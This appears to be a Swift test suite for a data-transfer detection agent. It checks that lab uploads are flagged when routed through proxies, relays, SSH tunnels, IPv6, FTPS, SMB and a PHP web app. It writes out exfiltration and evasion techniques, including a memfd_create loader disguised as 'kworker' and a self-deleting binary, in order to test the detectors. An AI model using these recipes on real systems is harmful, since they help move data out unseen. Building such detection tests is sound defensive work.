import Foundation
import TestSupport
import Testing

/// Transfers inside other channels, end to end: proxies on the lab's "Internet" server
/// (microsocks, dante, ncat), relays on this host (socat, ssh -D, ssh -L), SSH itself as the
/// pipe, IPv6, and a web application's FTP. The agent runs as shipped, with its packet tap.
extension KernelAuditTests.FlowEndToEnd {
    /// Every proxy protocol, and a wrapper (proxychains) that sends a client that knows no
    /// proxy through one: the flow's destination is what the client asked for, the proxy is
    /// `xferwatch.proxy`, the data connection through the same proxy stays with its session.
    @Test func proxiesOfEveryKindShowWhereTheTransferWent() throws {
        for tool in ["/usr/bin/proxychains4", "/usr/bin/microsocks", "/usr/sbin/danted", "/usr/bin/ncat"] {
            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run make test")
        }
        let file = try randomFile("proxied.bin", bytes: 400_000)
        let wrapper = try commandsFile("proxychains.conf", ["strict_chain", "quiet_mode", "[ProxyList]", "socks5 203.0.113.10 1080"])
        let put = try commandsFile("proxied.ftp", ["user anonymous x", "binary", "put \(file) upload/wrapped.bin", "quit"])
        let agent = try startAgent()
        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
        let socks5 = try client("/usr/bin/curl", ["-s", "-x", "socks5h://203.0.113.10:1080", "-T", file, "ftp://203.0.113.10/upload/socks5.bin"])
        let socks4 = try client("/usr/bin/curl", ["-s", "-x", "socks4://203.0.113.10:1081", "-T", file, "ftp://203.0.113.10/upload/socks4.bin"])
        let http = try client("/usr/bin/curl", ["-s", "-p", "-x", "http://203.0.113.10:3128", "-T", file, "ftp://203.0.113.10/upload/http.bin"])
        let wrapped = try client(
            "/usr/bin/proxychains4", ["-q", "-f", wrapper, "/usr/bin/ftp", "-n", "-p", "203.0.113.10"], stdin: FileHandle(forReadingAtPath: put))
        // The proxies' own connections on to the server are flows too: their processes run
        // on this host, in the lab's namespace.
        let flows = try stop(agent, awaiting: [socks5, socks4, http, wrapped]).map { AlertView($0) }
        let alerts = try readAlerts()

        for (pid, kind, port) in [(socks5, "socks5", 1080), (socks4, "socks4", 1081), (http, "http-connect", 3128), (wrapped, "socks5", 1080)] {
            let f = try #require(flows.first { $0.pid == Int(pid) }, "no flow of pid \(pid) through \(kind): \(flows.map { $0.pid ?? -1 })")
            #expect(f.json["xferwatch.proxy.kind"] as? String == kind)
            #expect(f.json["xferwatch.proxy.ip"] as? String == "203.0.113.10" && f.json["xferwatch.proxy.port"] as? Int == port)
            // proxychains connects a socket of its own and dup2()s it over the client's: read
            // late, the descriptor the connect named may already hold the data connection's
            // socket (README: what a wrapper can blur). The session, its bytes and the proxy hold.
            if pid == wrapped {
                #expect((f.json["source.bytes"] as? Int ?? 0) >= 400_000, "\(f.json)")
                #expect(alerts.contains { $0.pid == Int(pid) && $0.rule == "an1170.noninteractive_transfer" })
                continue
            }
            #expect(f.json["network.protocol"] as? String == "ftp", "\(kind): \(f.json)")
            #expect(f.json["destination.ip"] as? String == "203.0.113.10" && f.json["destination.port"] as? Int == 21, "\(kind): \(f.json)")
            // One data connection, through the proxy too: the file plus the proxy's handshake.
            let data = f.json["xferwatch.data_connections"] as? [[String: Any]] ?? []
            let sent = (data.first?["source"] as? [String: Any])?["bytes"] as? Int ?? 0
            #expect(data.count == 1 && sent >= 400_000 && sent < 400_600, "\(kind): \(data)")
            #expect(f.json["xferwatch.transfer.direction"] as? String == "upload")
            let mine = alerts.filter { $0.pid == Int(pid) }
            let an1170 = try #require(mine.first { $0.rule == "an1170.noninteractive_transfer" }, "\(kind): \(mine.map(\.rule))")
            #expect(
                an1170.reasons.contains { $0.hasPrefix("destination 203.0.113.10:21, asked of the \(kind) proxy 203.0.113.10:\(port)") }, "\(an1170.reasons)")
            let other = try #require(mine.first { $0.rule == "ftp.internet_other_path" }, "\(kind): \(mine.map(\.rule))")
            #expect(other.reasons.first?.contains("through the \(kind) proxy 203.0.113.10:\(port)") == true, "\(other.reasons)")
            #expect(!mine.contains { $0.rule == "transfer.nonstandard_port" }, "port 21 is what \(kind) was asked for")
        }
    }

    /// A transfer client on this host connects to a listener whose process carries the bytes
    /// out: socat, ssh -D (a SOCKS proxy on loopback), ssh -L. The client's flow names the
    /// relay and where the relay's own connection goes, and is judged by that.
    @Test func relaysOnThisHostAreFollowedOut() throws {
        try #require(FileManager.default.isExecutableFile(atPath: "/usr/bin/socat"), "socat is missing: run make test")
        let file = try randomFile("relayed.bin", bytes: 300_000)
        let put = try commandsFile("relayed.ftp", ["user anonymous x", "binary", "put \(file) upload/relayed.bin", "quit"])
        let wrapper = try commandsFile("dynamic.conf", ["strict_chain", "quiet_mode", "[ProxyList]", "socks5 127.0.0.1 10800"])
        let agent = try startAgent()
        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
        let socat = try Child("/usr/bin/socat", ["TCP-LISTEN:2121,bind=127.0.0.1,reuseaddr,fork", "TCP:203.0.113.10:21"])
        defer { _ = socat.stop() }
        try waitForListener("127.0.0.1:2121")
        // Only the control connection goes through socat: the data connection goes where the
        // PASV reply says.
        let throughSocat = try client(
            "/usr/bin/curl", ["-s", "--disable-epsv", "--ftp-pasv", "--no-ftp-skip-pasv-ip", "-T", file, "ftp://127.0.0.1:2121/upload/socat.bin"])
        // ssh -f forks away: the daemon that relays is not the process that connected. (Its
        // output goes nowhere: it would hold the test's pipes open.)
        let tunnel = (["/usr/bin/ssh"] + sshOptions + ["-f", "-N"]).joined(separator: " ") + " "
        defer { _ = try? runCommand("/usr/bin/pkill", ["-f", "--", "-N -[DL] 127\\.0\\.0\\.1:"]) }
        try client("/bin/sh", ["-c", tunnel + "-D 127.0.0.1:10800 root@203.0.113.10 > /dev/null 2>&1"])
        try waitForListener("127.0.0.1:10800")
        let dynamic = try client(
            "/usr/bin/proxychains4", ["-q", "-f", wrapper, "/usr/bin/ftp", "-n", "-p", "203.0.113.10"], stdin: FileHandle(forReadingAtPath: put))
        try client("/bin/sh", ["-c", tunnel + "-L 127.0.0.1:2122:203.0.113.10:21 root@203.0.113.10 > /dev/null 2>&1"])
        try waitForListener("127.0.0.1:2122")
        let local = try client(
            "/usr/bin/curl", ["-s", "--disable-epsv", "--ftp-pasv", "--no-ftp-skip-pasv-ip", "-T", file, "ftp://127.0.0.1:2122/upload/forwarded.bin"])
        _ = try runCommand("/usr/bin/pkill", ["-f", "--", "-N -[DL] 127\\.0\\.0\\.1:"])
        _ = socat.stop()
        let flows = try stop(agent, awaiting: [throughSocat, dynamic, local]).map { AlertView($0) }
        let alerts = try readAlerts()

        for (pid, relay, destination) in [(throughSocat, "/usr/bin/socat", 21), (dynamic, "/usr/bin/ssh", 22), (local, "/usr/bin/ssh", 22)] {
            let f = try #require(flows.first { $0.pid == Int(pid) }, "no flow of pid \(pid): \(flows.map { $0.pid ?? -1 })")
            #expect(f.json["network.protocol"] as? String == "ftp")
            #expect(f.json["xferwatch.relay.executable"] as? String == relay, "\(f.json)")
            #expect(f.json["xferwatch.relay.destination.ip"] as? String == "203.0.113.10")
            #expect(f.json["xferwatch.relay.destination.port"] as? Int == destination)
            let an1170 = try #require(alerts.first { $0.pid == Int(pid) && $0.rule == "an1170.noninteractive_transfer" }, "\(relay) pid \(pid)")
            // Through ssh -D the SOCKS request can be read before ssh's accept: the alert may
            // come before the relay is known, judged by the address asked for (below).
            guard pid != dynamic else { continue }
            #expect(an1170.json["xferwatch.relay.pid"] as? Int == f.json["xferwatch.relay.pid"] as? Int)
            #expect(
                an1170.reasons.contains {
                    $0.hasPrefix("relay \(relay.split(separator: "/").last!) (pid ")
                        && $0.hasSuffix("carries it to 203.0.113.10:\(destination), which is untrusted")
                },
                "\(an1170.reasons)")
        }
        // Through ssh -D the client asked a SOCKS proxy (ssh's) for the server: that address is
        // what the alert judges.
        let viaDynamic = try #require(flows.first { $0.pid == Int(dynamic) })
        let dynamicAlert = try #require(alerts.first { $0.pid == Int(dynamic) && $0.rule == "an1170.noninteractive_transfer" })
        #expect(
            dynamicAlert.reasons.contains("destination 203.0.113.10:21, asked of the socks5 proxy 127.0.0.1:10800, is untrusted"), "\(dynamicAlert.reasons)")
        #expect(viaDynamic.json["xferwatch.proxy.ip"] as? String == "127.0.0.1" && viaDynamic.json["destination.port"] as? Int == 21)
        #expect((viaDynamic.json["xferwatch.data_connections"] as? [[String: Any]])?.count == 1)
    }

    /// Non-interactive SSH sessions that move data are transfers, whatever drives ssh; a
    /// person's session stays quiet.
    @Test func sshSessionsThatMoveDataAreTransfers() throws {
        let file = try randomFile("piped.bin", bytes: 300_000)
        let ssh = (["ssh"] + sshOptions).joined(separator: " ")
        let script = try commandsFile(
            "library-upload.py",
            [
                "import paramiko, sys",
                "c = paramiko.SSHClient()",
                "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
                "c.connect('203.0.113.10', 2222, username='root', key_filename='\(lab)/client_key', look_for_keys=False, allow_agent=False)",
                "s = c.open_sftp()",
                "s.put(sys.argv[1], '\(lab)/sshroot/paramiko.bin')",
                "c.close()",
            ])
        let agent = try startAgent()
        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
        let pipeline = try client("/bin/sh", ["-c", "tar cf - \(file) 2>/dev/null | \(ssh) root@203.0.113.10 'cat > /dev/null'"])
        let rsync = try client("/usr/bin/rsync", ["-e", "\(ssh) -p 2222", file, "root@203.0.113.10:\(lab)/sshroot/rsync.bin"])
        let paramiko = try client("/usr/bin/python3", [script, file])
        // git over ssh, from a script: git runs GIT_SSH_COMMAND through sh, which runs ssh.
        let repository = work + "/source"
        let push = try commandsFile(
            "push.sh",
            [
                "set -e", "git init -q --bare \(lab)/sshroot/pushed.git", "git init -q \(repository)", "cd \(repository)",
                "head -c 300000 /dev/urandom > blob.bin", "git add blob.bin", "git -c user.name=ci -c user.email=ci@example.org commit -qm blob",
                "GIT_SSH_COMMAND='\(ssh)' git push -q root@203.0.113.10:\(lab)/sshroot/pushed.git HEAD:refs/heads/main",
            ])
        try client("/bin/sh", [push])
        // A person at a terminal, logged in, reading a file through ssh: interactive.
        try client(
            "/usr/bin/script",
            [
                "-qefc", "sh -c 'echo 0 > /proc/self/loginuid; exec \(ssh) -tt root@203.0.113.10 \"head -c 200000 /dev/zero; sleep 0.3\"' > /dev/null",
                "/dev/null",
            ])
        // A remote command's few lines are no transfer.
        let command = try client("/bin/sh", ["-c", "\(ssh) root@203.0.113.10 uptime > /dev/null"])
        // A backup script's rsync to a host on the private network: not untrusted.
        let backup = try commandsFile("backup.sh", ["rsync -e '\(ssh)' \(file) root@10.203.0.10:\(lab)/sshroot/backup.bin"])
        try client("/bin/sh", [backup])
        let flows = try stop(agent, awaiting: [pipeline, rsync, paramiko, command], commandLines: ["head -c 200000", "10.203.0.10 rsync", "git-receive-pack"])
            .map { AlertView($0) }
        let alerts = try readAlerts()
        func sshFlow(_ pid: Int32, child: Bool = true) throws -> AlertView {
            try #require(
                flows.first { child ? $0.json["process.parent.pid"] as? Int == Int(pid) : $0.pid == Int(pid) },
                "no flow of pid \(pid) or its child: \(flows.map { "\($0.pid ?? -1) \($0.executable ?? "")" })")
        }

        let piped = try sshFlow(pipeline)
        let pushed = try #require(flows.first { ($0.json["process.command_line"] as? String)?.contains("git-receive-pack") == true })
        let synced = try sshFlow(rsync)
        let library = try sshFlow(paramiko, child: false)
        for (name, f) in [("tar | ssh", piped), ("rsync", synced), ("paramiko", library), ("git push", pushed)] {
            #expect(f.json["network.protocol"] as? String == "ssh", "\(name)")
            #expect(f.json["xferwatch.transfer.direction"] as? String == "upload", "\(name): \(f.json)")
            #expect((f.json["source.bytes"] as? Int ?? 0) >= 300_000, "\(name)")
            let an1170 = try #require(alerts.first { $0.rule == "an1170.noninteractive_transfer" && $0.pid == f.pid }, "\(name): \(alerts.map(\.rule))")
            #expect(an1170.reasons.contains { $0.hasPrefix("SSH session") && $0.contains("bytes out") }, "\(name): \(an1170.reasons)")
        }
        #expect(synced.json["xferwatch.transfer.program.executable"] as? String == "/usr/bin/rsync", "rsync drives its ssh")
        #expect(library.executable?.hasPrefix("/usr/bin/python3") == true)
        let typed = try #require(
            flows.first { ($0.json["process.command_line"] as? String)?.contains("head -c 200000") == true }, "no flow of the person's ssh")
        #expect(typed.json["xferwatch.interactive"] as? Bool == true, "\(typed.json)")
        let quiet = try sshFlow(command)
        let privateBackup = try #require(flows.first { ($0.json["process.command_line"] as? String)?.contains("10.203.0.10 rsync") == true })
        #expect((privateBackup.json["source.bytes"] as? Int ?? 0) >= 300_000 && privateBackup.json["xferwatch.interactive"] as? Bool == false)
        for f in [typed, quiet, privateBackup] {
            #expect(!alerts.contains { $0.rule == "an1170.noninteractive_transfer" && $0.pid == f.pid }, "\(f.json["process.command_line"] ?? "")")
        }
    }

    /// IPv6 like IPv4: active and passive uploads to 2001:db8::10 with exact data bytes, and
    /// FTP to the Internet from an IPv6 source reported.
    @Test func ipv6ActiveAndPassiveFTP() throws {
        let file = try randomFile("v6.bin", bytes: 250_000)
        let put = try commandsFile("v6.ftp", ["user anonymous x", "binary", "put \(file) upload/v6.bin", "quit"])
        let agent = try startAgent()
        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
        let active = try client("/usr/bin/ftp", ["-n", "-A", "2001:db8::10"], stdin: FileHandle(forReadingAtPath: put))
        let passive = try client("/usr/bin/ftp", ["-n", "-p", "2001:db8::10"], stdin: FileHandle(forReadingAtPath: put))
        let flows = try stop(agent, awaiting: [active, passive])
        let alerts = try readAlerts()
        for (pid, mode) in [(active, "active"), (passive, "passive")] {
            let f = try #require(flow(of: pid, in: flows), "no \(mode) flow: \(flows)")
            #expect(f.destinationIP == "2001:db8::10" && f.networkProtocol == "ftp")
            #expect(f.dataModes == [mode])
            #expect(f.dataConnections.count == 1 && f.data(0, "source") == 250_000, "\(mode): \(f.dataConnections)")
            #expect(f.bytesExact == true)
            let other = try #require(alerts.first { $0.pid == Int(pid) && $0.rule == "ftp.internet_other_path" }, "\(alerts.map(\.rule))")
            #expect(other.reasons.first == "FTP session from the IPv6 source fd20:203::1", "\(other.reasons)")
            #expect(alerts.contains { $0.pid == Int(pid) && $0.rule == "an1170.noninteractive_transfer" })
        }
    }

    /// PHP's ftp extension in a web server run by its user (www-data), serving a request from
    /// the very host it then uploads to: a client, with its bytes, and Elastic's rule fires.
    @Test func aWebApplicationsFTPUpload() throws {
        let root = work + "/www"
        try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: true)
        let file = try randomFile("www/report.bin", bytes: 200_000)
        try [
            "<?php", "$c = ftp_connect('203.0.113.10', 21, 10); ftp_login($c, 'anonymous', 'x'); ftp_pasv($c, true);",
            "echo ftp_put($c, 'upload/php.bin', '\(file)', FTP_BINARY) ? 'sent' : 'failed'; ftp_close($c);",
        ].joined(separator: "\n").write(toFile: root + "/index.php", atomically: true, encoding: .utf8)
        _ = try runCommand("/bin/chmod", ["-R", "a+rX", work])
        let agent = try startAgent()
        // Its output goes nowhere: runuser's child would hold the test's pipes open.
        let server = try Child("/bin/sh", ["-c", "exec /usr/sbin/runuser -u www-data -- /usr/bin/php -S 10.203.0.1:8080 -t \(root) > /dev/null 2>&1"])
        defer {
            _ = try? runCommand("/usr/bin/pkill", ["-f", "php -S 10.203.0.1:8080"])
            _ = server.stop()
        }
        try waitForListener("10.203.0.1:8080")
        let request = try runCommand("/usr/sbin/ip", ["netns", "exec", "xwsrv", "/usr/bin/curl", "-s", "-m", "20", "http://10.203.0.1:8080/"])
        #expect(request.stdout == "sent", "\(request)")
        let flows = try stop(agent, expecting: 1).map(FlowView.init)
        let f = try #require(flows.first { $0.executable?.hasPrefix("/usr/bin/php") == true }, "\(flows.map(\.executable))")
        #expect(f.networkProtocol == "ftp" && f.destinationPort == 21)
        #expect(f.dataConnections.count == 1 && f.data(0, "source") == 200_000, "\(f.dataConnections)")
        let alerts = try readAlerts()
        #expect(alerts.contains { $0.rule == "ftp.internet" && $0.pid == f.pid }, "\(alerts.map(\.rule))")
    }

    /// FTPS explicit (AUTH TLS, on 2121 and on IPv6's 21) and implicit (990): known as ftps,
    /// the encrypted data connection paired with its session by process and server, its bytes
    /// those on the wire (the file plus TLS's records), every FTP rule applied.
    @Test func encryptedFTPExplicitAndImplicit() throws {
        let file = try randomFile("tls.bin", bytes: 300_000)
        let agent = try startAgent()
        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
        // lftp would retry a failed upload by itself, 30 s later and in a second session of the
        // same pid: it is told to fail at once instead.
        let explicit = try client("/usr/bin/curl", ["-s", "-k", "--ssl-reqd", "-T", file, "ftp://203.0.113.10:2121/upload/explicit.bin"])
        let implicit = try client("/usr/bin/curl", ["-s", "-k", "-T", file, "ftps://203.0.113.10/upload/implicit.bin"])
        let ipv6 = try client("/usr/bin/curl", ["-s", "-k", "--ssl-reqd", "-T", file, "ftp://[2001:db8::10]/upload/v6tls.bin"])
        let lftp = try client(
            "/usr/bin/lftp",
            [
                "-u", "anonymous,x", "-e",
                "set ssl:verify-certificate no; set ftp:ssl-force yes; set net:max-retries 1; set cmd:fail-exit yes; put \(file) -o upload/lftp-tls.bin; quit",
                "203.0.113.10:2121",
            ])
        let flows = try stop(agent, awaiting: [explicit, implicit, ipv6, lftp])
        let alerts = try readAlerts()
        for (pid, name, port) in [(explicit, "explicit", 2121), (implicit, "implicit", 990), (ipv6, "IPv6", 21), (lftp, "lftp", 2121)] {
            let f = try #require(flow(of: pid, in: flows), "no \(name) flow: \(flows)")
            #expect(f.networkProtocol == "ftps" && f.destinationPort == port, "\(name): \(f.json)")
            #expect(f.dataConnections.count == 1 && roughly(f.data(0, "source"), 300_000, within: 0.03), "\(name): \(f.dataConnections)")
            #expect(f.transferDirection == "upload" && f.bytesExact == true, "\(name)")
            let mine = Set(alerts.filter { $0.pid == Int(pid) }.map(\.rule))
            #expect(mine.isSuperset(of: ["an1170.noninteractive_transfer", "ftp.internet_other_path"]), "\(name): \(mine)")
            #expect(mine.contains("transfer.nonstandard_port") == (port == 2121), "\(name): \(mine)")
        }
        let evidence = try #require(flow(of: implicit, in: flows)).json["xferwatch"] as? [String: Any]
        #expect(evidence?["protocol_evidence"] as? String == "TLS on the implicit FTPS port of 203.0.113.10:990")
    }

    /// smbclient and smbget against smbd: attributed like FTP, the files their CREATE requests
    /// name, AN1170 and SMB to the Internet.
    @Test func smbClientsUploadAndDownload() throws {
        for tool in ["/usr/bin/smbclient", "/usr/bin/smbget", "/usr/sbin/smbd"] {
            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run make test")
        }
        let file = try randomFile("share.tar", bytes: 300_000)
        let agent = try startAgent()
        try #require(agent.waitForStderr(containing: "inspection: capturing", seconds: 10))
        let put = try client("/usr/bin/smbclient", ["//203.0.113.10/share", "-N", "-c", "put \(file) dump.tar"])
        let get = try client("/usr/bin/smbget", ["-a", "-q", "-o", work + "/back.tar", "smb://203.0.113.10/share/dump.tar"])
        let flows = try stop(agent, awaiting: [put, get])
        let alerts = try readAlerts()
        let up = try #require(flow(of: put, in: flows), "\(flows)")
        #expect(up.networkProtocol == "smb" && up.destinationPort == 445 && up.transferDirection == "upload")
        #expect(roughly(up.bytesOut, 300_000, within: 0.03), "\(String(describing: up.bytesOut))")
        let files = (up.json["xferwatch"] as? [String: Any]).flatMap { ($0["smb"] as? [String: Any])?["files"] as? [[String: Any]] } ?? []
        #expect(files.contains { $0["name"] as? String == "dump.tar" && $0["write"] as? Bool == true }, "\(files)")
        let down = try #require(flow(of: get, in: flows))
        #expect(down.networkProtocol == "smb" && down.transferDirection == "download" && roughly(down.bytesIn, 300_000, within: 0.03))
        for pid in [put, get] {
            let mine = Set(alerts.filter { $0.pid == Int(pid) }.map(\.rule))
            #expect(mine.isSuperset(of: ["an1170.noninteractive_transfer", "smb.internet", "an1169.suspicious_filename"]), "\(mine)")
        }
        let smbAlert = try #require(alerts.first { $0.pid == Int(put) && $0.rule == "smb.internet" })
        #expect(smbAlert.reasons.contains("wrote dump.tar"), "\(smbAlert.reasons)")
    }

    /// A client run from memfd_create, and a copy deleted while it uploads: the transfer is
    /// attributed, said to come from a binary with no file, and hashed all the same.
    @Test func programsWithNoFileOnDisk() throws {
        let file = try randomFile("fileless.bin", bytes: 300_000)
        let loader = try commandsFile(
            "loader.py",
            [
                "import os, sys",
                "fd = os.memfd_create('kworker', 0)",
                "os.write(fd, open('/usr/bin/curl', 'rb').read())",
                "os.execv(f'/proc/self/fd/{fd}', ['curl', '-s', '-T', sys.argv[1], 'ftp://203.0.113.10/upload/memfd.bin'])",
            ])
        let dropped = work + "/.cache/kworker"
        try FileManager.default.createDirectory(atPath: work + "/.cache", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: "/usr/bin/curl", toPath: dropped)
        let agent = try startAgent()
        let memfd = try client("/usr/bin/python3", [loader, file])
        // 300 kB at 150 kB/s: the agent sees the file go, at the flow's start or in its polls
        // (every 200 ms here). It is deleted once the process runs it.
        let running = try Child(dropped, ["-s", "--limit-rate", "150k", "-T", file, "ftp://203.0.113.10/upload/deleted.bin"])
        // Deleted once the server has its first bytes: its execve returned long before, so
        // audit named the file as it was (the exe link changes while execve still runs; deleted
        // then, the kernel's own record would say "(deleted)").
        let arriving = lab + "/ftproot/upload/deleted.bin"
        let deadline = Date().addingTimeInterval(20)
        while Date() < deadline, ((try? FileManager.default.attributesOfItem(atPath: arriving)[.size] as? Int) ?? 0) == 0 { usleep(10_000) }
        try FileManager.default.removeItem(atPath: dropped)
        running.waitUntilExit()
        let flows = try stop(agent, awaiting: [memfd, running.pid])
        let alerts = try readAlerts()
        let loaded = try #require(flow(of: memfd, in: flows), "\(flows)")
        #expect(loaded.executable == "/memfd:kworker (deleted)" && loaded.networkProtocol == "ftp")
        #expect(loaded.json["xferwatch"].flatMap { ($0 as? [String: Any])?["process"] as? [String: Any] }?["executable_on_disk"] as? Bool == false)
        #expect(loaded.dataConnections.count == 1 && loaded.data(0, "source") == 300_000)
        // Both are copies of curl: their hashes, read through /proc/<pid>/exe, say so.
        let curl = String(try runCommand("/usr/bin/sha256sum", ["/usr/bin/curl"]).stdout.prefix { $0 != " " })
        for (pid, how) in [(memfd, "loaded through memfd_create"), (running.pid, "deleted")] {
            let alert = try #require(alerts.first { $0.pid == Int(pid) && $0.rule == "transfer.no_file_executable" }, "\(how): \(alerts.map(\.rule))")
            #expect(alert.reasons.first?.hasSuffix("has no file on disk (\(how))") == true, "\(alert.reasons)")
            #expect(alert.json["threat.technique.id"] as? String == "T1620")
            #expect(alert.json["process.hash.sha256"] as? String == curl, "\(how): \(alert.json["process.hash.sha256"] ?? "no hash")")
        }
        let deletedFlow = try #require(flow(of: running.pid, in: flows))
        #expect(deletedFlow.executable == dropped, "\(deletedFlow.json)")
    }

    /// Waits (30 s at most, for a slow, busy machine) until each pid, or a child of it, has a
    /// flow, and a flow's command line contains each of `commandLines`; stops the agent and
    /// returns every flow.
    func stop(_ agent: Child, awaiting pids: [Int32], commandLines: [String] = []) throws -> [[String: Any]] {
        let deadline = Date().addingTimeInterval(30)
        func done() -> Bool {
            guard let flows = try? jsonLines(agent.stdout).map(AlertView.init) else { return false }
            return pids.allSatisfy { pid in flows.contains { $0.pid == Int(pid) || $0.parentPid == Int(pid) } }
                && commandLines.allSatisfy { text in flows.contains { ($0.json["process.command_line"] as? String)?.contains(text) == true } }
        }
        while Date() < deadline, !done() { usleep(50_000) }
        #expect(agent.stop() == 0, "agent: \(agent.stderr.suffix(6000))")
        return try documents(agent.stdout)
    }

    /// Waits (20 s at most) until something listens on `address:port` in this namespace.
    func waitForListener(_ endpoint: String) throws {
        let deadline = Date().addingTimeInterval(20)
        while Date() < deadline {
            if try runCommand("/usr/bin/ss", ["-Hltn", "src", endpoint]).stdout.contains(endpoint) { return }
            usleep(50_000)
        }
        Issue.record("nothing listens on \(endpoint)")
    }
}
